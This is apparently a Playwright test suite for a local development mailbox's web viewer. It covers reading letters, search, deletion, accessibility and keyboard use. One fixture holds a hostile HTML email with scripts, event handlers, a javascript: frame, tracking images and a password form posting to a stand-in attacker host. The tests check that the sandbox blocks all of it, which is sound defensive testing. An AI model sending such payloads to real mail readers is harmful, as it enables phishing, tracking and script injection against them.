"""The development mailbox as a person sees it: readable by everyone, and nothing that a stranger wrote runs."""

from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path
from typing import Literal

import pytest
from aiohttp import web
from playwright.async_api import Page, ViewportSize, expect
from pytest_aiohttp.plugin import AiohttpServer

from cli.mailbox.letters import Letter, Letters
from cli.mailbox.pages import add_routes
from tests.browser.kit import DESKTOP, PHONE, Browsing, Kind, assert_accessible, assert_fits

#: Tries whatever mail ever tried: scripts, handlers, forms, frames, styles, refreshes, images of elsewhere.
HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=http://evil.invalid/refreshed">
<link rel="stylesheet" href="http://evil.invalid/x.css"><base href="http://evil.invalid/"></head>
<body onload="alert('onload')"><script>alert('script'); top.location = 'http://evil.invalid/'</script>
<img src="http://evil.invalid/pixel.png" onerror="alert('onerror')"><svg onload="alert('svg')"></svg>
<iframe src="javascript:alert('frame')"></iframe><object data="http://evil.invalid/x.swf"></object>
<form action="http://evil.invalid/taken"><input name="password" autofocus onfocus="alert('focus')">
<button id="send">Send</button></form>
<style>body { background: url(http://evil.invalid/bg.png) } @import "http://evil.invalid/y.css";</style>
<p id="readable">Dear customer</p></body></html>"""


@pytest.fixture
def letters(tmp_path: Path) -> Letters:
    """An empty mailbox."""
    return Letters(tmp_path / "mail")


@pytest.fixture
async def url(letters: Letters, aiohttp_server: AiohttpServer) -> str:
    """Where its list is."""
    app = web.Application()
    add_routes(app, letters, smtp_address="127.0.0.1:8025")
    return str((await aiohttp_server(app)).make_url("/"))


async def keep(letters: Letters, subject: str = "Where is my parcel?", html: str = "<p>Hello</p>") -> Letter:
    """A letter with text, HTML and a file, as SMTP would bring it."""
    message = EmailMessage()
    message["From"] = "Jane Doe <jane@example.test>"
    message["To"] = "support@example.test"
    message["Subject"] = subject
    message.set_content("Hello,\n\nwhere is my parcel?\n")
    message.add_alternative(html, subtype="html")
    message.add_attachment(b"%PDF", maintype="application", subtype="pdf", filename="order.pdf")
    return await letters.store("forms@mailroom.test", ["support@example.test"], message.as_bytes(policy=SMTP))


async def test_a_letter_is_found_and_read(page: Page, letters: Letters, url: str) -> None:
    """From the list a click leads to the letter, with its text, its HTML in a frame, and its file."""
    await keep(letters)
    await page.goto(url)
    await page.get_by_role("link", name="Where is my parcel?").click()

    await expect(page.get_by_role("heading", level=1)).to_have_text("Where is my parcel?")
    await expect(page.frame_locator("iframe").locator("p")).to_have_text("Hello")
    async with page.expect_download() as download:
        await page.get_by_role("link", name="order.pdf").click()
    assert (await download.value).suggested_filename == "order.pdf"


async def test_a_search_narrows_the_list(page: Page, letters: Letters, url: str) -> None:
    """Words typed into the field leave the letters that have them."""
    await keep(letters, "One parcel")
    await keep(letters, "Two invoices")
    await page.goto(url)
    await page.get_by_role("searchbox").fill("invoices")
    await page.keyboard.press("Enter")

    await expect(page.locator(".subject")).to_have_text(["Two invoices"])


async def test_all_letters_are_deleted_with_a_click(page: Page, letters: Letters, url: str) -> None:
    """The button empties the mailbox and the page says so."""
    await keep(letters)
    await page.goto(url)
    await page.get_by_role("button", name="Delete all").click()

    await expect(page.get_by_role("heading", level=1)).to_have_text("No letters yet")
    assert len(letters) == 0


@pytest.mark.parametrize("frame", ["iframe", None], ids=["in its page", "on its own"])
async def test_sec_10_hostile_html_can_do_nothing(
    page: Page, browser: Browsing, letters: Letters, url: str, frame: str | None
) -> None:
    """A letter that tries everything is readable, and the browser refuses all it tries: it does nothing, nowhere."""
    letter = await keep(letters, html=HOSTILE)
    here = f"{url}letters/{letter.id}" + ("" if frame else "/html")
    await page.goto(here)
    body = (page.frame_locator(frame) if frame else page).locator("body")
    await expect(body.locator("#readable")).to_have_text("Dear customer")
    async with page.expect_console_message(lambda said: "Blocked form submission" in said.text):
        await body.locator("#send").click()

    assert page.url == here
    for refused in ("http://evil.invalid/x.css", "http://evil.invalid/pixel.png", "JavaScript URL", "plugin data"):
        browser.take(Kind.POLICY, refused)
    browser.take(Kind.POLICY, "http://evil.invalid/bg.png")
    for refused in ("script execution", "execute the redirect", "autofocusing", "form submission"):
        browser.take(Kind.CONSOLE, refused)


async def test_a_link_in_a_letter_cannot_replace_the_page(
    page: Page, browser: Browsing, letters: Letters, url: str
) -> None:
    """A link that asks for the whole window stays without effect in the letter's frame."""
    letter = await keep(letters, html='<a href="http://evil.invalid/" target="_top">Click me</a>')
    await page.goto(f"{url}letters/{letter.id}")
    async with page.expect_console_message(lambda said: "navigat" in said.text):
        await page.frame_locator("iframe").get_by_role("link").click()

    assert page.url == f"{url}letters/{letter.id}"
    browser.take(Kind.CONSOLE, "sandboxed")


@pytest.mark.parametrize("colours", ["light", "dark"])
@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
async def test_everyone_can_use_the_pages(
    browser: Browsing, letters: Letters, url: str, colours: Literal["light", "dark"], size: ViewportSize
) -> None:
    """The empty list, the list, a letter and a letter that is gone pass axe, in both colours, and fit their window."""
    page = await browser.open(colours=colours, size=size)
    await page.goto(url)
    await assert_accessible(page)
    letter = await keep(letters, "A subject " + "that-is-long" * 20)
    for path in ("", f"letters/{letter.id}", "letters/gone"):
        await page.goto(url + path)
        await assert_accessible(page)
        await assert_fits(page)

    browser.take(Kind.CONSOLE, "404")


async def test_the_keyboard_is_enough(page: Page, letters: Letters, url: str) -> None:
    """The first tab stop leads past the top of the page, and a letter opens with Enter."""
    await keep(letters)
    await page.goto(url)
    await page.keyboard.press("Tab")
    await expect(page.get_by_role("link", name="Skip to content")).to_be_focused()
    await page.get_by_role("link", name="Where is my parcel?").focus()
    await page.keyboard.press("Enter")

    await expect(page.get_by_role("heading", level=1)).to_have_text("Where is my parcel?")
